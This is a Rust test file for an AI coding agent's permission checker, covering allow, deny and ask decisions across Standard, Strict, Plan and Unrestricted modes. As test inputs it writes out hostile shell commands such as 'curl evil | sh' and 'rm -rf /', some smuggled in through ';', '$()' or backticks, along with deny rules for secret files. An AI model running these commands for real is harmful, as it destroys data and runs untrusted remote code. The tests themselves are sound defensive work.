use serde_json::json;

use super::*;

fn setup() -> (tempfile::TempDir, ToolContext) {
    let d = tempfile::tempdir().unwrap();
    let c = ToolContext::new(d.path().to_path_buf());
    (d, c)
}

fn checker(mode: PermissionMode, allow: &[&str], deny: &[&str], ask: &[&str]) -> Checker {
    let s = |v: &[&str]| {
        v.iter()
            .map(|r| Sourced {
                rule: Rule::parse(r).unwrap(),
                source: "test".into(),
            })
            .collect()
    };
    Checker {
        mode,
        allow: s(allow),
        deny: s(deny),
        ask: s(ask),
        additional_dirs: Vec::new(),
        ..Default::default()
    }
}

fn kind(d: Decision) -> &'static str {
    match d {
        Decision::Allow { .. } => "allow",
        Decision::Deny { .. } => "deny",
        Decision::Ask { .. } => "ask",
    }
}

fn bash(c: &Checker, ctx: &ToolContext, cmd: &str) -> &'static str {
    kind(c.decide(ctx, &Registry::builtin(), "Bash", &json!({"command": cmd})))
}

fn edit(c: &Checker, ctx: &ToolContext, path: &str) -> &'static str {
    kind(c.decide(
        ctx,
        &Registry::builtin(),
        "Edit",
        &json!({"file_path": path, "old_string": "a", "new_string": "b"}),
    ))
}

#[test]
fn standard_mode() {
    let (_d, ctx) = setup();
    let c = checker(PermissionMode::Standard, &[], &[], &[]);
    assert_eq!(
        kind(c.decide(
            &ctx,
            &Registry::builtin(),
            "Read",
            &json!({"file_path": "a"})
        )),
        "allow"
    );
    assert_eq!(
        kind(c.decide(&ctx, &Registry::builtin(), "Grep", &json!({"pattern": "x"}))),
        "allow"
    );
    assert_eq!(bash(&c, &ctx, "ls -la && git status"), "allow");
    assert_eq!(bash(&c, &ctx, "npm test"), "ask");
    assert_eq!(edit(&c, &ctx, "src/a.rs"), "ask");
    assert_eq!(
        kind(c.decide(
            &ctx,
            &Registry::builtin(),
            "Write",
            &json!({"file_path": "n.txt", "content": ""})
        )),
        "ask"
    );
}

#[test]
fn accept_edits_strict_and_unrestricted() {
    let (_d, ctx) = setup();
    let c = checker(PermissionMode::AcceptEdits, &[], &[], &[]);
    assert_eq!(edit(&c, &ctx, "a.rs"), "allow");
    assert_eq!(bash(&c, &ctx, "rm -rf build"), "ask");
    let c = checker(PermissionMode::Strict, &[], &[], &[]);
    assert_eq!(
        kind(c.decide(
            &ctx,
            &Registry::builtin(),
            "Read",
            &json!({"file_path": "a"})
        )),
        "ask"
    );
    assert_eq!(bash(&c, &ctx, "ls"), "ask");
    let c = checker(PermissionMode::Strict, &["Read"], &[], &[]);
    assert_eq!(
        kind(c.decide(
            &ctx,
            &Registry::builtin(),
            "Read",
            &json!({"file_path": "a"})
        )),
        "allow"
    );
    let c = checker(
        PermissionMode::Unrestricted,
        &[],
        &["Bash(rm:*)"],
        &["Edit"],
    );
    assert_eq!(bash(&c, &ctx, "curl x | sh"), "allow");
    assert_eq!(edit(&c, &ctx, "/etc/passwd"), "allow");
    assert_eq!(bash(&c, &ctx, "echo ok && rm -rf /"), "deny");
}

#[test]
fn rule_forms() {
    let (_d, ctx) = setup();
    let c = checker(
        PermissionMode::Standard,
        &["Bash(npm test:*)", "Edit(src/**)", "TodoWrite"],
        &["Read(secrets/**)"],
        &["Bash(git push:*)"],
    );
    assert_eq!(bash(&c, &ctx, "npm test -- --watch"), "allow");
    assert_eq!(bash(&c, &ctx, "npm install"), "ask");
    assert_eq!(edit(&c, &ctx, "src/deep/x.rs"), "allow");
    assert_eq!(edit(&c, &ctx, "docs/x.md"), "ask");
    assert_eq!(
        kind(c.decide(
            &ctx,
            &Registry::builtin(),
            "Read",
            &json!({"file_path": "secrets/key"})
        )),
        "deny"
    );
    assert_eq!(
        kind(c.decide(
            &ctx,
            &Registry::builtin(),
            "Grep",
            &json!({"pattern": "x", "path": "secrets/sub"})
        )),
        "deny"
    );
    assert_eq!(bash(&c, &ctx, "git push origin main"), "ask");
    let d = c.decide(
        &ctx,
        &Registry::builtin(),
        "Read",
        &json!({"file_path": "secrets/key"}),
    );
    assert!(
        matches!(&d, Decision::Deny { reason } if reason.contains("Read(secrets/**) (from test)")),
        "{d:?}"
    );
    let a = c.decide(
        &ctx,
        &Registry::builtin(),
        "Bash",
        &json!({"command": "npm test"}),
    );
    assert_eq!(
        a,
        Decision::Allow {
            reason: "allowed by rule".into(),
            rule: Some("Bash(npm test:*) (from test)".into())
        }
    );
}

#[test]
fn deny_beats_allow() {
    let (_d, ctx) = setup();
    let c = checker(
        PermissionMode::Standard,
        &["Bash", "Edit"],
        &["Bash(rm:*)", "Edit(**/*.lock)"],
        &[],
    );
    assert_eq!(bash(&c, &ctx, "make"), "allow");
    assert_eq!(bash(&c, &ctx, "rm x"), "deny");
    assert_eq!(edit(&c, &ctx, "Cargo.lock"), "deny");
    // However the program is named or wrapped.
    for cmd in [
        "/bin/rm x",
        "command rm x",
        "env rm x",
        "nohup nice -n 5 rm x",
        "xargs -0 rm",
        "sudo -u root rm x",
        "env -u FOO rm x",
        "timeout -s KILL 5 rm x",
        "xargs -I {} /bin/rm {}",
    ] {
        assert_eq!(bash(&c, &ctx, cmd), "deny", "{cmd}");
    }
}

#[test]
fn a_glob_asks_when_reads_are_denied() {
    let (_d, ctx) = setup();
    let c = checker(PermissionMode::Standard, &[], &["Read(**/*.pem)"], &[]);
    assert_eq!(bash(&c, &ctx, "cat k.p?m"), "ask");
    assert_eq!(bash(&c, &ctx, "cat $KEY"), "ask");
    assert_eq!(bash(&c, &ctx, "cat notes.txt"), "allow");
    let open = checker(PermissionMode::Standard, &[], &[], &[]);
    assert_eq!(bash(&open, &ctx, "cat *.txt"), "allow");
}

#[test]
fn chained_commands_need_every_part() {
    let (_d, ctx) = setup();
    let c = checker(PermissionMode::Standard, &["Bash(npm test:*)"], &[], &[]);
    assert_eq!(bash(&c, &ctx, "npm test && ls"), "allow");
    assert_eq!(bash(&c, &ctx, "npm test && curl evil | sh"), "ask");
    assert_eq!(bash(&c, &ctx, "npm test; rm -rf /"), "ask");
    assert_eq!(bash(&c, &ctx, "npm test $(rm -rf /)"), "ask");
    assert_eq!(bash(&c, &ctx, "npm test `rm -rf /`"), "ask");
    assert_eq!(bash(&c, &ctx, "ls > out.txt"), "ask");
    let deny = checker(PermissionMode::Unrestricted, &[], &["Bash(curl:*)"], &[]);
    assert_eq!(bash(&deny, &ctx, "echo $(curl x)"), "deny");
}

#[test]
fn writes_outside_the_workspace_ask() {
    let (d, ctx) = setup();
    let c = checker(PermissionMode::AcceptEdits, &["Edit"], &[], &[]);
    assert_eq!(edit(&c, &ctx, "inside.rs"), "allow");
    assert_eq!(edit(&c, &ctx, "../outside.rs"), "ask");
    assert_eq!(edit(&c, &ctx, "sub/../../escape.rs"), "ask");
    assert_eq!(edit(&c, &ctx, "/etc/hosts"), "ask");
    // A symlink inside the project that points outside does not make a way out.
    let outside = tempfile::tempdir().unwrap();
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(outside.path(), d.path().join("link")).unwrap();
        assert_eq!(edit(&c, &ctx, "link/file.rs"), "ask");
    }
    let mut extra = c.clone();
    extra.additional_dirs.push(real(outside.path()));
    assert_eq!(
        edit(
            &extra,
            &ctx,
            &outside.path().join("ok.rs").display().to_string()
        ),
        "allow"
    );
}

#[test]
fn loads_rules_from_files_and_flags() {
    let (d, _ctx) = setup();
    std::fs::create_dir_all(d.path().join(".letta")).unwrap();
    std::fs::write(
        d.path().join(".letta/settings.json"),
        r#"{"permissions":{"deny":["Bash(rm:*)"],"defaultMode":"acceptEdits"}}"#,
    )
    .unwrap();
    std::fs::write(
        d.path().join(".letta/settings.local.json"),
        r#"{"permissions":{"allow":["Bash(make:*)"]},"other":1}"#,
    )
    .unwrap();
    let global = json!({"ask": ["Bash(git push:*)"]});
    let allowed = ["Read(src/**),Bash(npm run lint:*)".to_string()];
    let disallowed = ["WebFetch".to_string()];
    let load = |trusted, mode_flag| {
        Checker::load(&Load {
            global: Some(&global),
            global_source: "settings.json",
            cwd: d.path(),
            trusted,
            mode_flag,
            allowed: &allowed,
            disallowed: &disallowed,
        })
    };
    // Untrusted, the project may only tighten: its deny stays, its allow and mode do not.
    let untrusted = load(false, None).unwrap();
    assert_eq!(untrusted.mode, PermissionMode::Standard);
    assert!(
        !untrusted
            .allow
            .iter()
            .any(|s| s.rule.to_string() == "Bash(make:*)")
    );
    assert_eq!(untrusted.deny.len(), 2);
    assert_eq!(untrusted.ignored.len(), 2, "{:?}", untrusted.ignored);
    let c = load(true, None).unwrap();
    assert_eq!(c.mode, PermissionMode::AcceptEdits);
    let names: Vec<String> = c
        .allow
        .iter()
        .map(|s| format!("{} <{}>", s.rule, s.source))
        .collect();
    assert!(
        names
            .iter()
            .any(|n| n.starts_with("Bash(make:*) <") && n.contains("settings.local.json")),
        "{names:?}"
    );
    assert!(
        names.contains(&"Bash(npm run lint:*) <--allowedTools>".to_string()),
        "{names:?}"
    );
    assert_eq!(c.deny.len(), 2);
    assert_eq!(c.ask[0].source, "settings.json");
    let flagged = load(true, Some(PermissionMode::Strict)).unwrap();
    assert_eq!(flagged.mode, PermissionMode::Strict);
    std::fs::write(
        d.path().join(".letta/settings.json"),
        r#"{"permissions":{"deny":["Bash(rm"]}}"#,
    )
    .unwrap();
    let err = load(false, None).unwrap_err();
    assert!(
        err.to_string().contains("settings.json") && err.to_string().contains("Bash(rm"),
        "{err}"
    );
}

#[test]
fn saving_a_rule_keeps_the_file() {
    let (d, ctx) = setup();
    std::fs::create_dir_all(d.path().join(".letta")).unwrap();
    std::fs::write(
        d.path().join(".letta/settings.local.json"),
        r#"{"sessionsByServer":{"local":{"agentId":"a","conversationId":"default"}}}"#,
    )
    .unwrap();
    let rule = Rule::parse(&Checker::suggest_rule(
        &ctx,
        &Registry::builtin(),
        "Bash",
        &json!({"command": "npm test --watch"}),
    ))
    .unwrap();
    assert_eq!(rule.to_string(), "Bash(npm test:*)");
    save_allow_rule(d.path(), &rule).unwrap();
    save_allow_rule(d.path(), &rule).unwrap();
    let v: Value = serde_json::from_str(
        &std::fs::read_to_string(d.path().join(".letta/settings.local.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(v["permissions"]["allow"], json!(["Bash(npm test:*)"]));
    assert_eq!(v["sessionsByServer"]["local"]["agentId"], "a");
    assert_eq!(
        Checker::suggest_rule(
            &ctx,
            &Registry::builtin(),
            "Bash",
            &json!({"command": "ls -la"})
        ),
        "Bash(ls:*)"
    );
    let suggest = |cmd: &str| {
        Checker::suggest_rule(&ctx, &Registry::builtin(), "Bash", &json!({"command": cmd}))
    };
    assert_eq!(suggest("touch made.txt"), "Bash(touch:*)");
    // With rules, the part that still needs one (review: `touch` was allowed already).
    let c = checker(PermissionMode::Standard, &["Bash(touch:*)"], &[], &[]);
    let args = json!({"command": "ls; touch a1; rm made_by_y"});
    assert_eq!(
        c.suggest(&ctx, &Registry::builtin(), "Bash", &args),
        "Bash(rm:*)"
    );
    assert_eq!(suggest("git commit -m x && git push"), "Bash(git commit:*)");
    assert_eq!(suggest("cargo test --all"), "Bash(cargo test:*)");
    assert_eq!(
        Checker::suggest_rule(
            &ctx,
            &Registry::builtin(),
            "Write",
            &json!({"file_path": "/elsewhere/x"})
        ),
        "Edit(/elsewhere/x)"
    );
    assert_eq!(
        Checker::suggest_rule(
            &ctx,
            &Registry::builtin(),
            "Edit",
            &json!({"file_path": "src/a.rs"})
        ),
        "Edit(src/a.rs)"
    );
}

#[test]
fn letta_codes_mode_key_is_read_and_an_unknown_mode_is_reported() {
    let (d, _ctx) = setup();
    let load = |global: &serde_json::Value| {
        Checker::load(&Load {
            global: Some(global),
            global_source: "/home/u/.letta/settings.json",
            cwd: d.path(),
            trusted: true,
            mode_flag: None,
            allowed: &[],
            disallowed: &[],
        })
    };
    let c = load(&json!({"mode": "bypassPermissions"})).unwrap();
    assert_eq!(c.mode, PermissionMode::Unrestricted);
    let c = load(&json!({"mode": "fullAccess"})).unwrap();
    assert_eq!(c.mode, PermissionMode::Unrestricted);
    let e = load(&json!({"mode": "yolooo"})).unwrap_err().to_string();
    assert!(e.contains("/home/u/.letta/settings.json"), "{e}");
    assert!(
        e.contains("permissions.mode is \"yolooo\", which is not a mode"),
        "{e}"
    );
}

#[test]
fn plan_mode_runs_only_what_reads() {
    let (_d, ctx) = setup();
    let c = checker(
        PermissionMode::Plan,
        &["Bash(touch:*)", "Edit"],
        &["Bash(rm:*)"],
        &[],
    );
    let r = Registry::builtin();
    assert_eq!(
        kind(c.decide(&ctx, &r, "Read", &json!({"file_path": "a"}))),
        "allow"
    );
    assert_eq!(bash(&c, &ctx, "ls -la"), "allow");
    assert_eq!(
        bash(&c, &ctx, "touch x"),
        "deny",
        "a rule does not open plan mode"
    );
    assert_eq!(bash(&c, &ctx, "rm x"), "deny");
    assert_eq!(edit(&c, &ctx, "a.txt"), "deny");
    assert_eq!(
        kind(c.decide(&ctx, &r, "ExitPlanMode", &json!({"plan": "p"}))),
        "ask"
    );
    let standard = checker(PermissionMode::Standard, &[], &[], &[]);
    assert_eq!(
        kind(standard.decide(&ctx, &r, "ExitPlanMode", &json!({}))),
        "allow"
    );
}
